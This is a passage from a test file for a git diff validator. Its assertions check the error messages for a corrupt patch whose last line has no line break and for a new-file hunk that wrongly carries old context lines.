    'The diff cannot be read: its last line (8) has no line break, which git reads as a corrupt patch.',
  ]);
  // A new file has no old lines: git refuses context in its hunk ("depends on old contents").
  assert.deepEqual(
    rulesOf(
      diff(
        'diff --git a/src/new.ts b/src/new.ts',
        'new file mode 100644',
        'index 0000000..4a58007',
        '--- /dev/null',
        '+++ b/src/new.ts',
        '@@ -0 +1,2 @@',
        '+x',
        ' ',
        '\\ No newline at end of file',
      ),
    ),
    ['The diff cannot be read: the new file at line 1 has hunks with old lines.'],
  );
  assert.equal(check(headers + first + last, { tree }).accepted, true);
});
